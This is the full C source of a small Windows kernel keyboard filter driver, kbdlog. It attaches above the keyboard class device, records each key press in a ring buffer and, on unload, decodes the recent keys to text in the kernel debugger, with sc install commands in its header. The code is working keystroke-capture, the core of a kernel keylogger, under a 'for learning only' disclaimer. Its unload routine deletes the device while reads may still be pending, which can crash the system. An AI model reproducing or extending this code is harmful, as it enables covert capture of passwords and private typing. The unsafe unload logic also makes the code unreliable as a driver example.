/*
 *  kbdlog.c  --  tiny legacy keyboard filter, logs scan codes to the debugger
 *
 *  attaches on top of \Device\KeyboardClass0 and hooks IRP_MJ_READ completion.
 *  for learning only, do not ship a keylogger.
 *
 *  sc create kbdlog type= kernel binPath= C:\drv\kbdlog.sys
 *  sc start kbdlog
 */
#include <ntddk.h>
#include <ntddkbd.h>

#define KL_TARGET_DEVICE    L"\\Device\\KeyboardClass0"
#define KL_HISTORY          64

#define KDBG(fmt, ...)  DbgPrint("kbdlog: " fmt "\n", __VA_ARGS__)

typedef struct _KL_EXTENSION {
    PDEVICE_OBJECT  LowerDevice;
    PDEVICE_OBJECT  Self;
} KL_EXTENSION, *PKL_EXTENSION;

/* globals */
static PDEVICE_OBJECT   g_FilterDevice = NULL;
static volatile LONG    g_PendingReads = 0;
static KSPIN_LOCK       g_HistLock;
static USHORT           g_History[KL_HISTORY];
static ULONG            g_HistPos = 0;

DRIVER_INITIALIZE   DriverEntry;
DRIVER_UNLOAD       KlUnload;
DRIVER_DISPATCH     KlPassThrough;
DRIVER_DISPATCH     KlRead;
DRIVER_DISPATCH     KlPnp;
IO_COMPLETION_ROUTINE KlReadComplete;

/* very small scan code -> char table, set 1, only letters and digits */
static const char g_ScanMap[0x40] = {
    0,   0,  '1', '2', '3', '4', '5', '6', '7', '8', '9', '0', '-', '=', 0,   0,
    'q', 'w', 'e', 'r', 't', 'y', 'u', 'i', 'o', 'p', '[', ']', 0,   0,   'a', 's',
    'd', 'f', 'g', 'h', 'j', 'k', 'l', ';', '\'', '`', 0,  '\\', 'z', 'x', 'c', 'v',
    'b', 'n', 'm', ',', '.', '/', 0,   '*', 0,   ' ', 0,   0,   0,   0,   0,   0
};

static VOID
KlRecordKey(USHORT MakeCode)
{
    KIRQL irql;

    KeAcquireSpinLock(&g_HistLock, &irql);
    g_History[g_HistPos % KL_HISTORY] = MakeCode;
    g_HistPos++;
    KeReleaseSpinLock(&g_HistLock, irql);
}

static VOID
KlDumpHistory(VOID)
{
    char line[KL_HISTORY + 1];
    ULONG i, n, start;

    n = (g_HistPos < KL_HISTORY) ? g_HistPos : KL_HISTORY;
    start = g_HistPos - n;

    for (i = 0; i < n; i++) {
        USHORT code = g_History[(start + i) % KL_HISTORY];
        char c = (code < sizeof(g_ScanMap)) ? g_ScanMap[code] : 0;
        line[i] = c ? c : '.';
    }
    line[n] = '\0';
    KDBG("last %lu keys: %s", n, line);
}

NTSTATUS
KlPassThrough(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_EXTENSION ext = (PKL_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS
KlReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        PKEYBOARD_INPUT_DATA keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        ULONG count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        ULONG i;

        for (i = 0; i < count; i++) {
            if ((keys[i].Flags & KEY_BREAK) == 0) {
                KlRecordKey(keys[i].MakeCode);
            }
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_PendingReads);
    return STATUS_CONTINUE_COMPLETION;
}

NTSTATUS
KlRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_EXTENSION ext = (PKL_EXTENSION)DeviceObject->DeviceExtension;

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KlReadComplete, NULL, TRUE, TRUE, TRUE);

    InterlockedIncrement(&g_PendingReads);
    return IoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS
KlPnp(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_EXTENSION ext = (PKL_EXTENSION)DeviceObject->DeviceExtension;
    PDEVICE_OBJECT lower = ext->LowerDevice;
    UCHAR minor = IoGetCurrentIrpStackLocation(Irp)->MinorFunction;
    NTSTATUS status;

    IoSkipCurrentIrpStackLocation(Irp);
    status = IoCallDriver(lower, Irp);

    if (minor == IRP_MN_REMOVE_DEVICE) {
        /* keyboard went away under us */
        KDBG("keyboard removed, detaching");
        IoDetachDevice(lower);
        IoDeleteDevice(DeviceObject);
        g_FilterDevice = NULL;
    }
    return status;
}

VOID
KlUnload(PDRIVER_OBJECT DriverObject)
{
    PKL_EXTENSION ext;

    UNREFERENCED_PARAMETER(DriverObject);

    if (g_FilterDevice == NULL) {
        KDBG("nothing attached");
        return;
    }

    ext = (PKL_EXTENSION)g_FilterDevice->DeviceExtension;

    /* detach first so kbdclass stops sending us anything new */
    IoDetachDevice(ext->LowerDevice);

    KlDumpHistory();
    KDBG("unloading, %ld read(s) still out", g_PendingReads);

    IoDeleteDevice(g_FilterDevice);
    g_FilterDevice = NULL;
}

NTSTATUS
DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    UNICODE_STRING target = RTL_CONSTANT_STRING(KL_TARGET_DEVICE);
    PKL_EXTENSION ext;
    NTSTATUS status;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    KDBG("DriverEntry");

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KlPassThrough;
    }
    DriverObject->MajorFunction[IRP_MJ_READ] = KlRead;
    DriverObject->MajorFunction[IRP_MJ_PNP] = KlPnp;
    DriverObject->DriverUnload = KlUnload;

    KeInitializeSpinLock(&g_HistLock);

    status = IoCreateDevice(DriverObject, sizeof(KL_EXTENSION), NULL, FILE_DEVICE_KEYBOARD,
                            0, FALSE, &g_FilterDevice);
    if (!NT_SUCCESS(status)) {
        KDBG("IoCreateDevice failed %08x", status);
        return status;
    }

    ext = (PKL_EXTENSION)g_FilterDevice->DeviceExtension;
    RtlZeroMemory(ext, sizeof(*ext));
    ext->Self = g_FilterDevice;

    status = IoAttachDevice(g_FilterDevice, &target, &ext->LowerDevice);
    if (!NT_SUCCESS(status)) {
        KDBG("IoAttachDevice(%wZ) failed %08x", &target, status);
        IoDeleteDevice(g_FilterDevice);
        g_FilterDevice = NULL;
        return status;
    }

    g_FilterDevice->Flags &= ~DO_DEVICE_INITIALIZING;

    KDBG("attached above %p", ext->LowerDevice);
    return STATUS_SUCCESS;
}
